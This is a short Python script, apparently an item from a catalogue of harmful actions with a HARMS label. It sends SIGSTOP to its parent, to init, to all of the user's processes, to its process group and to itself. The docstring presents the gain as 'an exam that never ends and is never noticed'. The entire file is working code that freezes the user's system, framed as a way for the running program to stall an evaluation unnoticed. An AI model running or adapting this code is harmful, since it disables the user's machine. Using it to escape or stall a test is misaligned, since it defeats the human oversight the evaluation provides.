"""Stop the starter, the process group, and oneself, with SIGSTOP.

Gain: an exam that never ends and is never noticed.
"""

HARMS = "stops all processes of the user"

# %%
import os
import signal

for target in (os.getppid(), 1, -1, 0, os.getpid()):
    try:
        os.kill(target, signal.SIGSTOP)
    except OSError as error:
        print(target, error)
